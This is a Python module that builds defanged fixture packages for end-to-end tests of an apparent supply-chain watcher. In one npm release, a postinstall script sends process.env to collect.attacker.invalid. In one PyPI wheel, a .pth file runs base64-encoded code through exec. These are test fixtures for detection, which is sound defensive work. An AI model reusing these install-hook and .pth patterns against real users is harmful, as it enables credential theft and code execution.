"""Synthetic, DEFANGED fixture packages for end-to-end tests and benchmarks.

Every package here is made up. The "malicious" releases imitate real supply-chain attacks
closely enough for watcher's rules to fire, but they are inert: attacker hosts live under the
reserved `.invalid` TLD (RFC 2606, never resolvable), the payloads are never installed or run
by any test, and the encoded `.pth` payload decodes to a plain string literal.

npm `@watcher-e2e/strutil` (a string utility):
  2.1.3  clean
  2.1.4  adds a `postinstall` script running `lib/setup.js`, which posts `process.env` to
         collect.attacker.invalid (the shape of many npm credential stealers)
  2.1.5  clean, honest follow-up of 2.1.3 (a new function, README tweak)
npm `watcher-e2e-clean` (unscoped): 1.0.0 -> 1.0.1, a tiny honest change.
npm `@watcher-e2e/tampered`: 1.0.0 honest; 1.0.1 published with a `dist.integrity` that does
  not match its tarball (see `TAMPERED_*`).
PyPI `watcher-e2e-pkg`:
  1.0.0  clean sdist + pure wheel
  1.0.1  identical, except that the WHEEL ONLY adds `watcher_e2e_pkg_init.pth` with an
         `exec(base64...)` line (the litellm 1.82.8 pattern; the sdist stays clean)
  1.0.2  clean, honest follow-up of 1.0.0
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import tarfile
import zipfile
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

# npm packs every file with this fixed mtime (1985-10-26T08:15:00Z) for reproducible tarballs.
NPM_MTIME = 499162500
ZIP_DATE = (1980, 1, 1, 0, 0, 0)

# --------------------------------------------------------------------------- archive builders


def _tar_gz(files: Mapping[str, bytes], root: str, mtime: int) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for path in sorted(files):
            data = files[path]
            info = tarfile.TarInfo(f"{root}/{path}")
            info.size = len(data)
            info.mode = 0o644
            info.mtime = mtime
            info.uname = info.gname = ""
            tar.addfile(info, io.BytesIO(data))
    return gzip.compress(raw.getvalue(), mtime=0)


def _zip(files: Mapping[str, bytes]) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for path, data in files.items():
            info = zipfile.ZipInfo(path, date_time=ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            archive.writestr(info, data)
    return raw.getvalue()


def _encode(files: Mapping[str, str | bytes]) -> dict[str, bytes]:
    return {path: data.encode() if isinstance(data, str) else data for path, data in files.items()}


def line_of(text: str, needle: str) -> int:
    """The 1-based number of the first line of `text` that contains `needle`."""
    for number, line in enumerate(text.splitlines(), start=1):
        if needle in line:
            return number
    raise ValueError(f"{needle!r} not found")


def line_text(text: str, needle: str) -> str:
    """The first line of `text` that contains `needle`, stripped (what `evidence` should be)."""
    return text.splitlines()[line_of(text, needle) - 1].strip()


# --------------------------------------------------------------------------- npm


@dataclass(frozen=True)
class NpmRelease:
    """One npm version: its package.json (as a mapping) plus the other files of the package."""

    manifest: Mapping[str, Any]
    files: Mapping[str, str] = field(default_factory=dict)
    registry_fields: Mapping[str, Any] = field(default_factory=dict)

    @property
    def name(self) -> str:
        return str(self.manifest["name"])

    @property
    def version(self) -> str:
        return str(self.manifest["version"])

    @property
    def package_json(self) -> str:
        """package.json exactly as packed (2-space indent like npm, trailing newline)."""
        return json.dumps(self.manifest, indent=2) + "\n"

    def all_files(self) -> dict[str, str]:
        return {"package.json": self.package_json, **self.files}

    def tarball(self) -> bytes:
        """The .tgz npm would publish: every file under `package/`."""
        return _tar_gz(_encode(self.all_files()), root="package", mtime=NPM_MTIME)

    @property
    def filename(self) -> str:
        return f"{self.name.lstrip('@').replace('/', '-')}-{self.version}.tgz"


STRUTIL = "@watcher-e2e/strutil"
STRUTIL_MAINTAINER = {"name": "strutil-dev", "email": "strutil-dev@example.invalid"}
STRUTIL_INTRUDER = {"name": "strutil-helper", "email": "helper@attacker.invalid"}

_STRUTIL_INDEX_213 = """\
'use strict';

/**
 * Upper-case the first character of a string.
 * @param {string} text
 * @returns {string}
 */
function capitalize(text) {
  if (!text) return '';
  return text.charAt(0).toUpperCase() + text.slice(1);
}

/**
 * Turn "Hello, World!" into "hello-world".
 * @param {string} text
 * @returns {string}
 */
function slugify(text) {
  return String(text)
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-+|-+$/g, '');
}

module.exports = { capitalize, slugify };
"""

_STRUTIL_INDEX_215 = """\
'use strict';

/**
 * Upper-case the first character of a string.
 * @param {string} text
 * @returns {string}
 */
function capitalize(text) {
  if (!text) return '';
  return text.charAt(0).toUpperCase() + text.slice(1);
}

/**
 * Turn "Hello, World!" into "hello-world".
 * @param {string} text
 * @returns {string}
 */
function slugify(text) {
  return String(text)
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-+|-+$/g, '');
}

/**
 * Shorten a string to at most `length` characters, ending with an ellipsis when cut.
 * @param {string} text
 * @param {number} length
 * @returns {string}
 */
function truncate(text, length) {
  const value = String(text);
  if (value.length <= length) return value;
  return value.slice(0, Math.max(0, length - 1)) + '\u2026';
}

module.exports = { capitalize, slugify, truncate };
"""

_STRUTIL_README_213 = """\
# @watcher-e2e/strutil

Small string helpers.

```js
const { capitalize, slugify } = require('@watcher-e2e/strutil');
capitalize('hello');        // 'Hello'
slugify('Hello, World!');   // 'hello-world'
```
"""

_STRUTIL_README_215 = """\
# @watcher-e2e/strutil

Small, dependency-free string helpers.

```js
const { capitalize, slugify, truncate } = require('@watcher-e2e/strutil');
capitalize('hello');        // 'Hello'
slugify('Hello, World!');   // 'hello-world'
truncate('abcdef', 4);      // 'abc…'
```
"""

# The credential stealer of 2.1.4. DEFANGED: the host is under .invalid and no test runs it.
STRUTIL_SETUP_JS = """\
'use strict';
// "Prepares the platform cache" -- really: sends the whole environment away on install.
const https = require('https');

const data = JSON.stringify(process.env);
const req = https.request({
  hostname: 'collect.attacker.invalid',
  port: 443,
  path: '/v1/collect',
  method: 'POST',
  headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(data) },
});
req.on('error', () => {});
req.write(data);
req.end();
"""


def _strutil_manifest(version: str, **extra: Any) -> dict[str, Any]:
    manifest: dict[str, Any] = {
        "name": STRUTIL,
        "version": version,
        "description": "Small string helpers: capitalize, slugify and friends.",
        "main": "index.js",
    }
    manifest.update(extra)
    manifest.update({"keywords": ["string", "slug", "capitalize"], "license": "MIT"})
    return manifest


def _strutil_registry_fields(publisher: Mapping[str, str]) -> dict[str, Any]:
    return {"maintainers": [dict(STRUTIL_MAINTAINER)], "_npmUser": dict(publisher)}


def strutil_2_1_3() -> NpmRelease:
    """Clean baseline."""
    return NpmRelease(
        _strutil_manifest("2.1.3"),
        {"index.js": _STRUTIL_INDEX_213, "README.md": _STRUTIL_README_213},
        _strutil_registry_fields(STRUTIL_MAINTAINER),
    )


def strutil_2_1_4() -> NpmRelease:
    """2.1.3 + a postinstall script that exfiltrates `process.env` (DEFANGED)."""
    return NpmRelease(
        _strutil_manifest("2.1.4", scripts={"postinstall": "node lib/setup.js"}),
        {
            "index.js": _STRUTIL_INDEX_213,
            "README.md": _STRUTIL_README_213,
            "lib/setup.js": STRUTIL_SETUP_JS,
        },
        _strutil_registry_fields(STRUTIL_INTRUDER),
    )


def strutil_2_1_5() -> NpmRelease:
    """Clean, honest follow-up of 2.1.3: `truncate()` added, README tweaked."""
    return NpmRelease(
        _strutil_manifest("2.1.5"),
        {"index.js": _STRUTIL_INDEX_215, "README.md": _STRUTIL_README_215},
        _strutil_registry_fields(STRUTIL_MAINTAINER),
    )


CLEAN = "watcher-e2e-clean"

_CLEAN_INDEX_100 = """\
'use strict';

/** Add two numbers. */
function add(a, b) {
  return a + b;
}

module.exports = { add };
"""

_CLEAN_INDEX_101 = """\
'use strict';

/** Add two numbers. */
function add(a, b) {
  return Number(a) + Number(b);
}

module.exports = { add };
"""


def clean_1_0_0() -> NpmRelease:
    return NpmRelease(
        {
            "name": CLEAN,
            "version": "1.0.0",
            "description": "Adds numbers.",
            "main": "index.js",
            "license": "MIT",
        },
        {"index.js": _CLEAN_INDEX_100},
    )


def clean_1_0_1() -> NpmRelease:
    """Tiny honest change: coerce the operands."""
    return NpmRelease(
        {
            "name": CLEAN,
            "version": "1.0.1",
            "description": "Adds numbers.",
            "main": "index.js",
            "license": "MIT",
        },
        {"index.js": _CLEAN_INDEX_101},
    )


TAMPERED = "@watcher-e2e/tampered"


def tampered_1_0_0() -> NpmRelease:
    return NpmRelease(
        {
            "name": TAMPERED,
            "version": "1.0.0",
            "description": "Integrity test.",
            "main": "index.js",
            "license": "MIT",
        },
        {"index.js": _CLEAN_INDEX_100},
    )


def tampered_1_0_1() -> NpmRelease:
    """Published with the bytes of this tarball but the digests of `tampered_1_0_1_claimed()`."""
    return NpmRelease(
        {
            "name": TAMPERED,
            "version": "1.0.1",
            "description": "Integrity test.",
            "main": "index.js",
            "license": "MIT",
        },
        {"index.js": _CLEAN_INDEX_101 + "// swapped in transit\n"},
    )


def tampered_1_0_1_claimed() -> NpmRelease:
    """What the registry metadata of tampered 1.0.1 claims the tarball is."""
    return NpmRelease(dict(tampered_1_0_1().manifest), {"index.js": _CLEAN_INDEX_101})


def sri_sha512(data: bytes) -> str:
    """Subresource-integrity string, as npm's `dist.integrity`."""
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode("ascii")


def npm_releases() -> list[NpmRelease]:
    """Every npm release to publish, oldest first per package (tampered 1.0.1 excluded)."""
    return [
        strutil_2_1_3(),
        strutil_2_1_4(),
        strutil_2_1_5(),
        clean_1_0_0(),
        clean_1_0_1(),
        tampered_1_0_0(),
    ]


# --------------------------------------------------------------------------- PyPI

PYPI_NAME = "watcher-e2e-pkg"
PYPI_MODULE = "watcher_e2e_pkg"
PTH_NAME = "watcher_e2e_pkg_init.pth"

# What the .pth payload decodes to: a bare string literal, so even exec() of it does nothing.
PTH_DECODED = (
    "'DEFANGED watcher e2e fixture: a real payload would send os.environ "
    "to https://c2.attacker.invalid/'"
)
PTH_LINE = (
    "import os, base64; exec(base64.b64decode('"
    + base64.b64encode(PTH_DECODED.encode()).decode("ascii")
    + "'))"
)

_PYPI_INIT_100 = '''\
"""watcher-e2e-pkg: a tiny, harmless helper used by watcher's end-to-end tests."""

__version__ = "{version}"


def greet(name: str) -> str:
    """Return a friendly greeting."""
    return f"Hello, {{name}}!"
'''

_PYPI_INIT_102 = '''\
"""watcher-e2e-pkg: a tiny, harmless helper used by watcher's end-to-end tests."""

__version__ = "{version}"


def greet(name: str) -> str:
    """Return a friendly greeting."""
    return f"Hello, {{name}}!"


def shout(name: str) -> str:
    """Return a loud greeting."""
    return greet(name).upper()
'''

_PYPROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "watcher-e2e-pkg"
version = "{version}"
description = "A tiny, harmless helper used by watcher's end-to-end tests."
requires-python = ">=3.8"
license = "MIT"
"""

_METADATA = """\
Metadata-Version: 2.1
Name: watcher-e2e-pkg
Version: {version}
Summary: A tiny, harmless helper used by watcher's end-to-end tests.
License: MIT
Requires-Python: >=3.8
"""

_WHEEL = """\
Wheel-Version: 1.0
Generator: watcher-e2e-fixtures
Root-Is-Purelib: true
Tag: py3-none-any
"""


@dataclass(frozen=True)
class PypiRelease:
    """One PyPI version: the sources shared by sdist and wheel, plus wheel-only extras."""

    version: str
    sources: Mapping[str, str]
    wheel_extra: Mapping[str, str] = field(default_factory=dict)

    @property
    def sdist_filename(self) -> str:
        return f"{PYPI_MODULE}-{self.version}.tar.gz"

    @property
    def wheel_filename(self) -> str:
        return f"{PYPI_MODULE}-{self.version}-py3-none-any.whl"

    def sdist(self) -> bytes:
        root = f"{PYPI_MODULE}-{self.version}"
        files = {
            "PKG-INFO": _METADATA.format(version=self.version),
            "pyproject.toml": _PYPROJECT.format(version=self.version),
            **self.sources,
        }
        return _tar_gz(_encode(files), root=root, mtime=NPM_MTIME)

    def wheel(self) -> bytes:
        dist_info = f"{PYPI_MODULE}-{self.version}.dist-info"
        files = _encode(
            {
                **self.sources,
                **self.wheel_extra,
                f"{dist_info}/METADATA": _METADATA.format(version=self.version),
                f"{dist_info}/WHEEL": _WHEEL,
            }
        )
        record_lines = []
        for path, data in files.items():
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=")
            record_lines.append(f"{path},sha256={digest.decode('ascii')},{len(data)}")
        record_lines.append(f"{dist_info}/RECORD,,")
        files[f"{dist_info}/RECORD"] = ("\n".join(record_lines) + "\n").encode()
        return _zip(files)

    def distributions(self) -> list[tuple[str, bytes]]:
        """(filename, bytes) of the sdist and the wheel, as uploaded to an index."""
        return [(self.sdist_filename, self.sdist()), (self.wheel_filename, self.wheel())]


def _pypi_sources(template: str, version: str) -> dict[str, str]:
    return {f"{PYPI_MODULE}/__init__.py": template.format(version=version)}


def pypi_1_0_0() -> PypiRelease:
    """Clean baseline."""
    return PypiRelease("1.0.0", _pypi_sources(_PYPI_INIT_100, "1.0.0"))


def pypi_1_0_1() -> PypiRelease:
    """1.0.0 re-released; the WHEEL ONLY adds a `.pth` that runs base64 code at startup."""
    return PypiRelease(
        "1.0.1",
        _pypi_sources(_PYPI_INIT_100, "1.0.1"),
        wheel_extra={PTH_NAME: PTH_LINE + "\n"},
    )


def pypi_1_0_2() -> PypiRelease:
    """Clean, honest follow-up of 1.0.0: `shout()` added."""
    return PypiRelease("1.0.2", _pypi_sources(_PYPI_INIT_102, "1.0.2"))


def pypi_releases() -> list[PypiRelease]:
    return [pypi_1_0_0(), pypi_1_0_1(), pypi_1_0_2()]
